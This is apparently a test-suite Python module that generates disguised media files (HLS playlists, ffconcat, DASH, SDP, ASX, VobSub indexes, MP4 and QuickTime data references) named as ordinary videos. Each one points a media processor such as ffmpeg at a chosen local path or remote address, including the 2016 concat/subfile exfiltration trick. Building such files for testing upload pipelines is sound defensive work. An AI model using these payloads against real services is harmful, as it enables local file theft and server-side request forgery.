"""Files that are nothing but a request to read another one: playlists, scripts, manifests, and films that point away.

Each is written for a `target`, a path or an address, and a `name` says in what disguise it is uploaded.
"""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

from tests.attacks.containers import avi_with_subtitles, box, changed, full_box
from tests.attacks.corpus import film


def _playlist(target: str) -> bytes:
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{target}\n#EXT-X-ENDLIST\n".encode()


def _playlist_of_keys(target: str) -> bytes:
    """The target as the key, the map and the segment: three doors in one."""
    lines = [f'#EXT-X-KEY:METHOD=AES-128,URI="{target}",IV=0x0', f'#EXT-X-MAP:URI="{target}"']
    return "\n".join(
        ["#EXTM3U", "#EXT-X-TARGETDURATION:4", *lines, "#EXTINF:4,", target, "#EXT-X-ENDLIST", ""]
    ).encode()


def _playlist_that_joins(target: str) -> bytes:
    """As it was done in 2016: the bytes of the target become part of an address that is fetched."""
    return _playlist(f"concat:{target}|subfile,,start,0,end,64,,:{target}")


def _concat(target: str) -> bytes:
    return f"ffconcat version 1.0\nfile '{target}'\n".encode()


def _dash(target: str) -> bytes:
    return f"""<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT4S">
<Period><AdaptationSet mimeType="video/mp4"><Representation id="0" bandwidth="1"><BaseURL>{target}</BaseURL>
<SegmentList><Initialization sourceURL="{target}"/><SegmentURL media="{target}"/></SegmentList>
</Representation></AdaptationSet></Period></MPD>
""".encode()


def _sdp(target: str) -> bytes:
    """A session to be received; the target is a host and a port."""
    port = target.rpartition(":")[2].strip("/") if target.startswith("tcp:") else "9"
    lines = ["v=0", "o=- 0 0 IN IP4 127.0.0.1", "s=x", "c=IN IP4 127.0.0.1", "t=0 0", f"m=video {port} RTP/AVP 96"]
    return "\r\n".join([*lines, "a=rtpmap:96 H264/90000", f"a=control:{target}", ""]).encode()


def _imf(target: str) -> bytes:
    return f"""<?xml version="1.0"?>
<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id>
<ContentTitle>{target}</ContentTitle><EditRate>25 1</EditRate>
<SegmentList><Segment><SequenceList/></Segment></SegmentList>
</CompositionPlaylist>
""".encode()


def _redirection(target: str) -> bytes:
    """The oldest way: a file that says where the stream is."""
    entry = f'<ASX version="3.0"><Entry><Ref href="{target}"/></Entry></ASX>'
    return f"{entry}\n[Reference]\nRef1={target}\nRTSPtext\n{target}".encode()


def _subtitle_index(target: str) -> bytes:
    """A VobSub index: ffmpeg opens the file of the same name beside it."""
    return f"# VobSub index file, v7\nsize: 720x576\nid: en, index: 0\n# {target}\n".encode() * 8


def _data_reference(target: str) -> bytes:
    """An MP4 whose samples lie in another file (ISO/IEC 14496-12, `dref`)."""
    entry = full_box(b"url ", 0, 0, target.encode() + b"\0")
    return changed(film(), b"dref", lambda _: b"\0\0\0\0\0\0\0\1" + entry)


def _alias(target: str) -> bytes:
    """The same with an alias record of QuickTime, which carries an absolute path."""
    path = target.removeprefix("file:").encode()
    record = bytes(10) + b"\4disk".ljust(28, b"\0") + bytes(12) + b"\4film".ljust(64, b"\0") + bytes(16)
    record += b"\0\1\0\1" + bytes(16) + b"\0\2" + len(path).to_bytes(2) + path + b"\xff\xff\0\0"
    entry = full_box(b"alis", 0, 0, record)
    return changed(film(), b"dref", lambda _: b"\0\0\0\0\0\0\0\1" + entry)


def _reference_movie(target: str) -> bytes:
    """QuickTime's reference movie: the whole of `moov` is an address."""
    reference = full_box(b"rdrf", 0, 0, b"url ", (len(target) + 1).to_bytes(4), target.encode() + b"\0")
    return box(b"ftyp", b"qt  \0\0\2\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", reference)))


REFERENCES: dict[str, Callable[[str], bytes]] = {
    "film.m3u8": _playlist,
    "playlist.mp4": _playlist,
    "keys.mkv": _playlist_of_keys,
    "joined.avi": _playlist_that_joins,
    "script.mp4": _concat,
    "manifest.mp4": _dash,
    "session.mkv": _sdp,
    "package.mxf": _imf,
    "redirection.wmv": _redirection,
    "subtitles.mkv": _subtitle_index,
    "gab2.avi": lambda target: avi_with_subtitles(_playlist(target)),
    "xbin.avi": lambda target: avi_with_subtitles(b"XBIN\x1a" + bytes(6) + _playlist(target)),
    "data-reference.mp4": _data_reference,
    "alias.mov": _alias,
    "reference-movie.mov": _reference_movie,
    "pattern.mp4": lambda target: f"image2:{quote(target)}/%05d.png".encode(),
}
